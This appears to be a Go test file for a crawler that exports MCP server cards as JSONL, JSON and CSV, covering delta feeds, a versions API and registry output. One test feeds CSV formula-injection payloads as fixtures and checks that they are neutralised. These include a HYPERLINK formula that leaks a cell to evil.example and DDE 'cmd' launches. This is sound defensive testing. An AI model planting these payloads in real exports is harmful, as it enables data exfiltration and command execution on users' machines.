package feed_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/cardcrawl/cardcrawl/internal/feed"
	"github.com/cardcrawl/cardcrawl/internal/feed/feedtest"
	"github.com/cardcrawl/cardcrawl/store"
)

// TestDeltaFeed: export --since writes what changed after T (with
// updatedAt) and a tombstone for each record that went away, and nothing
// for a re-crawl that found nothing new.
func TestDeltaFeed(t *testing.T) {
	db, clock := filledStore(t, 8)
	ctx := context.Background()
	clock.Advance(time.Hour)
	since := store.FormatTime(clock.Now())
	clock.Advance(time.Second)
	if err := feedtest.Fill(ctx, db, feedtest.Options{From: 1, Domains: 2, RunID: 2}); err != nil { // nothing new
		t.Fatal(err)
	}
	if err := feedtest.Save(ctx, db, 2, feedtest.Domain(3)); err != nil { // catalog gone
		t.Fatal(err)
	}
	if err := db.AddProbe(ctx, 2, store.ProbeRow{RemoteNorm: "https://mcp.d000006.example/a", URL: "https://mcp.d000006.example/a",
		Outcome: "connect", Result: `{}`}); err != nil { // a new probe outcome
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := feed.Write(ctx, &buf, "jsonl", db, feed.WriteOptions{Since: since}); err != nil {
		t.Fatal(err)
	}
	type line struct {
		EndpointNormalized, UpdatedAt, RemovedAt, RemovedReason string
		Removed                                                 bool
		Probe                                                   *struct{ Outcome string }
	}
	var got []line
	for _, l := range strings.Split(strings.TrimSpace(buf.String()), "\n") {
		var v line
		if err := json.Unmarshal([]byte(l), &v); err != nil {
			t.Fatalf("%v: %s", err, l)
		}
		if v.UpdatedAt <= since {
			t.Errorf("%s: updatedAt %s is not after %s", v.EndpointNormalized, v.UpdatedAt, since)
		}
		v.UpdatedAt, v.RemovedAt = "", ""
		got = append(got, v)
	}
	want := []line{
		{EndpointNormalized: "https://mcp.d000003.example/a", Removed: true, RemovedReason: "catalog_gone"},
		{EndpointNormalized: "https://mcp.d000003.example/b", Removed: true, RemovedReason: "catalog_gone"},
		{EndpointNormalized: "https://mcp.d000006.example/a", Probe: &struct{ Outcome string }{"connect"}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("delta (-want +got):\n%s", diff)
	}
	if err := feed.Write(ctx, &buf, "csv", db, feed.WriteOptions{Since: since}); err == nil {
		t.Error("csv accepted --since")
	}
	if err := feed.Write(ctx, &buf, "xml", db, feed.WriteOptions{}); err == nil {
		t.Error("unknown format accepted")
	}
}

// TestVersions: /versions lists every card claiming a name in feed order
// (x.example's endpoint sorts first), latest is the first of them, an exact version finds its card, and a name nobody
// claims is a 404 problem.
func TestVersions(t *testing.T) {
	db, _ := filledStore(t, 3)
	ctx := context.Background()
	for i, d := range []string{"x.example", "y.example"} {
		if err := feedtest.Save(ctx, db, 2, d, feedtest.Card{Key: "https://" + d + "/card.json", Name: "com.example/same%41",
			Version: []string{"1.0.0", "2.0.0"}[i], Remotes: []string{"https://mcp." + d + "/" + []string{"b", "a"}[i]}}); err != nil {
			t.Fatal(err)
		}
	}
	c := newServer(t, db)
	base := "/v0.1/servers/com.example%2Fsame%2541/versions"
	code, _, body := c.get(base)
	var list listPage
	_ = json.Unmarshal([]byte(body), &list)
	var versions []string
	for _, s := range list.Servers {
		versions = append(versions, s.Server.Version)
	}
	if code != http.StatusOK || !cmp.Equal(versions, []string{"1.0.0", "2.0.0"}) || list.Metadata.Count != 2 {
		t.Errorf("versions: %d %v\n%s", code, versions, body)
	}
	for path, want := range map[string]string{base + "/latest": "1.0.0", base + "/1.0.0": "1.0.0", base + "/2.0.0": "2.0.0"} {
		code, _, body := c.get(path)
		var e struct{ Server struct{ Version string } }
		_ = json.Unmarshal([]byte(body), &e)
		if code != http.StatusOK || e.Server.Version != want {
			t.Errorf("%s: %d %q, want %s", path, code, e.Server.Version, want)
		}
	}
	for _, path := range []string{base + "/3.0.0", "/v0.1/servers/com.example%2FsameA/versions", "/v0.1/servers/none/versions/latest"} {
		if code, h, _ := c.get(path); code != http.StatusNotFound || h.Get("Content-Type") != "application/problem+json" {
			t.Errorf("%s: %d %s, want a 404 problem", path, code, h.Get("Content-Type"))
		}
	}
}

// TestCSVNeutralisesFormulas: card text that a spreadsheet would run as a
// formula is written with a leading quote (OWASP), in the one CSV writer
// that export and /feed.csv share.
func TestCSVNeutralisesFormulas(t *testing.T) {
	db, _ := filledStore(t, 0)
	ctx := context.Background()
	for i, c := range [][3]string{
		{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "\rCR"},
		{"safe = name", "a-b", "1.0.0-rc.1"},
		{"'quoted", "\"=quoted\"", " =space"},
	} {
		d := string(rune('a'+i)) + ".example"
		if err := feedtest.Save(ctx, db, 1, d, feedtest.Card{Key: "https://" + d + "/card.json", Name: c[0], Title: c[1],
			Version: c[2], Remotes: []string{"https://" + d + "/mcp"}}); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if err := feed.Write(ctx, &buf, "csv", db, feed.WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	golden(t, "formulas.csv", buf.Bytes())
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	if got := rows[3][3]; got != "safe = name" {
		t.Errorf("a harmless cell changed: %q", got)
	}
}

// TestRegistryShapeSkipsNameless: a card without a name stays in the JSONL
// feed but has no server.json entry.
func TestRegistryShapeSkipsNameless(t *testing.T) {
	db, _ := filledStore(t, 0)
	ctx := context.Background()
	if err := feedtest.Save(ctx, db, 1, "n.example", feedtest.Card{Key: "https://n.example/card.json", Version: "1",
		Remotes: []string{"https://n.example/mcp"}}, feedtest.Card{Key: "https://n.example/named.json", Name: "com.example/n",
		Version: "1"}); err != nil {
		t.Fatal(err)
	}
	var js, jsonl bytes.Buffer
	if err := feed.Write(ctx, &js, "json", db, feed.WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := feed.Write(ctx, &jsonl, "jsonl", db, feed.WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	var list struct {
		Servers []struct{ Server struct{ Name string } }
	}
	if err := json.Unmarshal(js.Bytes(), &list); err != nil {
		t.Fatal(err)
	}
	if len(list.Servers) != 1 || list.Servers[0].Server.Name != "com.example/n" || strings.Count(jsonl.String(), "\n") != 2 {
		t.Errorf("registry entries %+v; jsonl:\n%s", list.Servers, jsonl.String())
	}
}
